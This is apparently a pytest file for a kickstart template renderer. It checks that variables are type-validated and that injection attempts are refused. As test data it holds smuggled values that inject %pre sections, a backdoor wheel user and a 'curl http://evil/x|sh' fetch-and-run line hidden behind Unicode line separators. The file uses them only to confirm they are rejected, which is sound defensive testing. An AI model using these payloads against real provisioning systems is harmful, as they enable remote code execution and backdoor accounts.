"""Every kickstart --var is checked against its declared type (kickstart_var_cases.json).

In-process for the whole table (a refused value raises InvalidInput, exit 2;
a value that fits renders a kickstart pykickstart accepts), and through the
real CLI for the issue's three injections.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from mgmt_pkg.errors import InvalidInput
from mgmt_pkg.kickstart import check_text, render

CASES = json.loads(
    (Path(__file__).parent / "cases" / "kickstart_var_cases.json").read_text(encoding="utf-8")
)["cases"]
URL = "http://mirror.example/f39"


def variables(case: dict) -> dict:
    merged = {"url": URL, **case["vars"]}
    return {name: value for name, value in merged.items() if value is not None}


@pytest.mark.parametrize("case", CASES, ids=[c["id"] for c in CASES])
def test_each_variable_against_its_type(case):
    if case["exit"] == 2:
        with pytest.raises(InvalidInput) as caught:
            render(case["template"], variables(case), "F39")
        assert caught.value.exit_code == 2
        assert case["message"] in str(caught.value)
        return
    text = render(case["template"], variables(case), "F39")
    assert case["message"] in text
    report = check_text(text, "F39", case["id"])
    assert report.ok, [str(f) for f in report.findings]


def test_every_template_declares_what_it_uses():
    # A template reading a variable it did not declare cannot render at all.
    from mgmt_pkg.kickstart import template_names

    for name in template_names():
        render(name, {"url": URL}, "F39")


def test_an_undeclared_variable_in_a_template_file_is_named(tmp_path):
    template = tmp_path / "mine.ks.j2"
    template.write_text("text\nnetwork --hostname={{ hostname }}\n")
    with pytest.raises(InvalidInput, match="uses 'hostname' without declaring it"):
        render(str(template), {"hostname": "web1"}, "F39")


@pytest.mark.parametrize(
    ("template", "var", "message"),
    [
        ("minimal", "packages=vim,%end,%pre,touch /tmp/pwned,%end,%packages,bash", "packages"),
        ("lvm", "lv_name=foo;touch x;", "lv_name"),
        ("minimal", "url=http://mirror.example/f39 --noverifyssl", "url"),
        ("minimal", "hostname=web1 --noverifyssl", "hostname"),
    ],
)
def test_cli_refuses_injections_with_exit_2(tmp_path, template, var, message):
    output = tmp_path / "out.ks"
    base = [] if var.startswith("url=") else ["--var", f"url={URL}"]  # a var is given once
    result = subprocess.run(
        [sys.executable, "-m", "mgmt_pkg", "kickstart", "render", template,
         *base, "--var", var, "-o", str(output)],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith(f"mgmt-pkg: error: --var {message}=")
    assert len(result.stderr.strip().splitlines()) == 1
    assert not output.exists()


UNSPLITTABLE = [
    ('text\nurl --url="http://x\nlang en_US\n', 2, "F39"),
    ("text\nfrobnicate\nlang 'en_US\n", 3, "F39"),
    ('%post\necho "it\n%end\nlang "en\n', 4, "F39"),  # the %post line is shell, not split
    ('text\n\n# "comment\n%packages\n@core\n%end\nkeyboard "us\n', 7, "F39"),
    # before F8 a section may end at the next one's header, which pykickstart puts
    # back and reads again: counted once
    ('%post\necho "a\n%pre\necho "b\n%end\nlang "en\n', 6, "FC6"),
]


@pytest.mark.parametrize(("text", "line", "target"), UNSPLITTABLE)
def test_check_names_the_line_with_an_open_quote(tmp_path, text, line, target):
    kickstart = tmp_path / "q.ks"
    kickstart.write_text(text)
    result = subprocess.run(
        [sys.executable, "-m", "mgmt_pkg", "kickstart", "check", "--target", target,
         str(kickstart)],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert result.returncode == 2
    assert result.stderr == (
        f"mgmt-pkg: error: {kickstart}:{line}: cannot split the line: No closing quotation\n"
    )


def test_the_open_quote_is_found_in_one_parse_of_the_file(monkeypatch):
    """Each quoted %post line made the whole prefix of the file be parsed again:
    3000 of them took 50 s. One parse now, and still the right line."""
    from pykickstart.parser import KickstartParser

    parses = []
    parse = KickstartParser._stateMachine
    monkeypatch.setattr(
        KickstartParser, "_stateMachine", lambda self, lines: parses.append(1) or parse(self, lines)
    )
    text = "%post\n" + 'echo "unbalanced\n' * 3000 + "%end\n" + 'lang "en_US\n'
    with pytest.raises(InvalidInput) as caught:
        check_text(text, "F39", "slow.ks")
    assert str(caught.value) == "slow.ks:3003: cannot split the line: No closing quotation"
    assert len(parses) == 1


KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f me@laptop"


@pytest.mark.parametrize("template", ["minimal", "lvm"])
@pytest.mark.parametrize(("target", "command"), [("F18", False), ("RHEL7", False), ("RHEL8", True)])
def test_the_root_key_is_given_as_each_target_takes_it(template, target, command):
    """sshkey came with F22 and RHEL 8: older targets failed with "Unknown command:
    sshkey"; they get the key from a %post instead."""
    text = render(template, {"url": URL, "ssh_key": KEY}, target)
    assert (f'sshkey --username=root "{KEY}"' in text) is command
    assert (f'echo "{KEY}" >> /root/.ssh/authorized_keys' in text) is not command
    report = check_text(text, target, target)
    assert report.ok, [str(f) for f in report.findings]


def test_a_template_of_ones_own_without_the_key_in_post_is_refused_not_keyless(tmp_path):
    """Including _common alone, the key was dropped in silence on RHEL 7: root locked."""
    mine = tmp_path / "mine.ks.j2"
    mine.write_text(
        '{% include "kickstart/_common.ks.j2" %}\nautopart\nreboot\n%packages\n@core\n%end\n'
    )
    with pytest.raises(InvalidInput, match="RHEL7 has no sshkey command: include kickstart/_root"):
        render(str(mine), {"url": URL, "ssh_key": KEY}, "RHEL7")
    assert f'sshkey --username=root "{KEY}"' in render(
        str(mine), {"url": URL, "ssh_key": KEY}, "RHEL8"
    )


# Every character str.splitlines() (so pykickstart, so anaconda) breaks a line at,
# and other controls and format characters: each refused in every type of value.
LINE_BREAKS = ["\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
OTHERS = ["\x00", "\t", "\x1b", "\x7f", "\u200b", "\u202e", "\ufeff", "\udcff"]
# (template, variable, a value of its type with {} where the character goes)
PLACES = [
    ("minimal", "ssh_key", KEY + " me{}@laptop"),
    ("lvm", "ssh_key", KEY + " {}"),
    ("minimal", "hostname", "web1{}"),
    ("minimal", "packages", "vim,{}git"),
    ("lvm", "lv_name", "data{}"),
    ("minimal", "url", URL + "/{}"),
]


def test_the_table_holds_every_break_splitlines_knows():
    # A Python that splits at one more character would fail here, not in silence.
    breaks = [chr(c) for c in range(0x110000) if len(f"a{chr(c)}b".splitlines()) > 1]
    assert sorted(breaks) == sorted(LINE_BREAKS)


@pytest.mark.parametrize("char", LINE_BREAKS + OTHERS, ids=lambda c: f"U+{ord(c):04X}")
@pytest.mark.parametrize(("template", "name", "value"), PLACES, ids=lambda p: str(p)[:20])
def test_no_value_of_any_type_may_hold_a_line_break_or_control(template, name, value, char):
    given = variables({"vars": {name: value.format(char)}})
    with pytest.raises(InvalidInput) as caught:
        render(template, given, "RHEL7")
    assert str(caught.value).startswith(f"--var {name}: holds U+{ord(char):04X}, ")


def test_a_non_ascii_key_comment_that_breaks_no_line_is_kept():
    key = KEY + " J\u00fcrgen\u2019s laptop"  # ü and a typographic apostrophe
    assert f'echo "{key}" >>' in render("minimal", {"url": URL, "ssh_key": key}, "RHEL7")


REPRO_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFKmkZEgPQvbvfffHaAYbofSfPt4mgeVHGiSnXqYo7D5"


@pytest.mark.parametrize(
    ("template", "target", "sep"),
    [("minimal", "RHEL7", "\u2028"), ("lvm", "F21", "\x85"), ("minimal", "F39", "\u2029")],
)
def test_cli_refuses_the_unicode_line_break_injection(tmp_path, template, target, sep):
    """The QA repro: %end, a wheel user and a %pre, each after a break only splitlines() sees."""
    injected = sep.join([
        "c #", "%end #", "user --name=evil --password=x --plaintext --groups=wheel #",
        "%pre #", "curl http://evil/x|sh #", "%end #", "%post #", "echo ",
    ])  # fmt: skip
    output = tmp_path / "repro.ks"
    result = subprocess.run(
        [sys.executable, "-m", "mgmt_pkg", "kickstart", "render", template, "--target", target,
         "--var", "url=http://10.0.0.1/", "--var", f"ssh_key={REPRO_KEY} {injected}",
         "-o", str(output)],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith(f"mgmt-pkg: error: --var ssh_key: holds U+{ord(sep):04X}, ")
    assert len(result.stderr.splitlines()) == 1
    assert not output.exists()


# Not \r: Jinja2 reads a template's \r as \n, so the written file shows that break too.
@pytest.mark.parametrize("char", LINE_BREAKS[2:], ids=lambda c: f"U+{ord(c):04X}")
@pytest.mark.parametrize("included", [False, True], ids=["template", "included"])
def test_a_template_that_holds_a_line_break_of_its_own_is_refused(tmp_path, char, included):
    """Not a --var: the template's text, or a file it includes, smuggles the break."""
    body = f"text\n# note{char}user --name=evil --password=x --plaintext\n"
    top = tmp_path / "mine.ks.j2"
    if included:
        (tmp_path / "part.ks.j2").write_text(body, newline="")
        top.write_text('{% include "part.ks.j2" %}\n')
    else:
        top.write_text(body, newline="")
    with pytest.raises(InvalidInput) as caught:
        render(str(top), {}, "F39")
    assert str(caught.value) == (
        f"{top}: the rendered line 2 holds U+{ord(char):04X}, a line break other than \\n "
        "that pykickstart would split at into a line of its own"
    )


@pytest.mark.parametrize("value", ["MyS3cret!", "$6$short"], ids=["a-password", "a-cut-hash"])
def test_a_value_refused_as_a_hash_is_not_repeated(value):
    """A password typed where its hash goes was printed back in the error, to the
    terminal and to whatever log keeps it."""
    result = subprocess.run(
        [sys.executable, "-m", "mgmt_pkg", "kickstart", "render", "minimal",
         "--var", f"url={URL}", "--var", f"rootpw_hash={value}"],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert result.returncode == 2, result.stderr
    assert result.stderr == (
        "mgmt-pkg: error: --var rootpw_hash=***: must be a crypt(3) hash such as $6$salt$hash "
        "(openssl passwd -6)\n"
    )
    assert result.stdout == ""
